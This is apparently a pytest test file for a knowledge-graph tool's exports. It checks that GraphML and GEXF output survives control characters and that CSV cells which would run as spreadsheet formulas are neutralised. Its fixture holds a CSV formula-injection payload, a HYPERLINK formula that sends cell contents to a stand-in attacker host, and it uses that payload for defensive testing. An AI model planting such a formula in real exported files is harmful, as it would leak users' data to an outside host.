"""Exports carry no breakage or payload: control characters XML 1.0 forbids never make a GraphML
or GEXF file unparsable, and CSV cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import xml.etree.ElementTree as ET

import networkx as nx
import pytest

from conftest import invoke_kg
from kg.network.export import cell, xml_text

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def hostile(mini, tmp_path):
    """The mini project with a control character in a label, a quote, and formulas in labels."""
    entities = mini / "data" / "entities" / "all.yaml"
    text = entities.read_text(encoding="utf-8")
    text = text.replace("label: Springfield", 'label: "Spring\\x01field\\x0b"', 1)
    text = text.replace("label: Federal Agency", "label: '" + FORMULA.replace("'", "''") + "'", 1)
    text = text.replace("label: Jane Roe", "label: '@SUM(1+1)'", 1)
    entities.write_text(text, encoding="utf-8")
    source = mini / "data" / "sources" / "memo.txt"
    source.write_bytes(source.read_bytes().replace(b"Mayor Jane Roe said", b"Mayor Jane Roe\x0bsaid", 1))
    statements = mini / "data" / "statements" / "memo.yaml"
    statements.write_text(statements.read_text(encoding="utf-8")
                          .replace("Mayor Jane Roe said", "Mayor Jane Roe\\vsaid"),
                          encoding="utf-8")
    store = tmp_path / "store"
    built = invoke_kg("--root", str(mini), "--store", str(store), "build", "-q")
    assert built.returncode == 0, built.stderr
    return mini, store


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_exports_parse_with_control_characters_in_the_data(hostile, tmp_path, fmt):
    root, store = hostile
    out = tmp_path / f"g.{fmt}"
    result = invoke_kg("--root", str(root), "--store", str(store), "export", "-o", str(out))
    assert result.returncode == 0, result.stderr
    ET.parse(out)  # a strict XML 1.0 parser: raises on a forbidden character
    read = nx.read_graphml(out) if fmt == "graphml" else nx.read_gexf(out)
    labels = {d.get("label") for _, d in read.nodes(data=True)}
    assert "Spring\ufffdfield\ufffd" in labels


def test_csv_cells_that_would_run_as_formulas_are_neutralised(hostile, tmp_path):
    root, store = hostile
    result = invoke_kg("--root", str(root), "--store", str(store), "export", "--format", "csv", "-o", str(tmp_path) + "/")
    assert result.returncode == 0, result.stderr
    with open(tmp_path / "nodes.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    labels = {row["label"] for row in rows}
    assert "'" + FORMULA in labels and "'@SUM(1+1)" in labels
    for path in (tmp_path / "nodes.csv", tmp_path / "edges.csv"):
        with open(path, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                assert not [v for v in row if v.startswith(("=", "+", "-", "@", "\t", "\r")) and not number(v)], row


def number(text: str) -> bool:
    """A number a spreadsheet reads as one (polarity -1): no formula."""
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_the_helpers_leave_ordinary_values_alone():
    assert xml_text("Trump's order, \"unlawful\"\n\ttab") == "Trump's order, \"unlawful\"\n\ttab"
    assert [cell(v) for v in ("San Francisco", 3, 2.5, None, "+1 555", "\rx")] == \
        ["San Francisco", 3, 2.5, None, "'+1 555", "'\rx"]
